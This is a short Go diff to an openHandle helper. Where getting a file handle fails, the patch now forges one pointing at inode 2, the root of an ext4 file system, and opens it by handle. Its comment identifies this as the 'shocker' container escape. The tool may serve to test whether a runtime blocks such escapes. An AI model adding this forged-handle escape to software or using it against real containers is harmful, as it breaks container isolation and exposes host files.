@@ -129,7 +129,9 @@ func openDirfdRead(args []string) error {
 func openHandle(args []string) error {
 	h, _, err := unix.NameToHandleAt(unix.AT_FDCWD, args[0], 0)
 	if err != nil {
-		return err
+		// overlayfs without nfs_export has no handles: the "shocker"
+		// escape forges one (inode 2, the root of an ext4 file system)
+		h = unix.NewFileHandle(1, []byte{2, 0, 0, 0, 0, 0, 0, 0})
 	}
 	fd, err := unix.OpenByHandleAt(unix.AT_FDCWD, h, unix.O_RDONLY)
 	if err == nil {
